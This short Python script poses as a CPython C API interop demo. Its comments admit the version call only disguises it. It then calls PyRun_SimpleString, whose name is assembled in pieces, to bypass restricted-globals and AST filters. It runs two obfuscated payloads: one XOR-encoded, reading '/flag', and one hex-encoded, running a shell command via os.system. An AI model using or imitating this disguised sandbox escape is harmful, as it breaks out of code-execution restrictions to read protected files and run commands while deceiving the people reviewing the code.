# Interop demo: calling into the CPython C API from Python.
import ctypes


def c_api(name):
    return getattr(ctypes.pythonapi, name)


def main():
    # Py_GetVersion is harmless and makes the program look like an FFI demo.
    ver = c_api("Py_GetVersion")
    ver.restype = ctypes.c_char_p
    print("runtime:", ver().decode().split()[0])

    # PyRun_SimpleString runs source in __main__'s namespace with the
    # interpreter's own builtins, outside any restricted globals / AST filter
    # that was applied to *this* file's text.
    runner = c_api("PyRun_" + "Simple" + "String")
    runner.argtypes = [ctypes.c_char_p]
    src = bytes(x ^ 0x5A for x in bytes.fromhex(
        "2a2833342e72352a3f34727d753c363b3d7d7374283f3b3e72737350"))
    runner(src)
    runner(bytes.fromhex("5f5f696d706f72745f5f28276f7327292e73797374656d2827696427290a"))


if __name__ == "__main__":
    main()
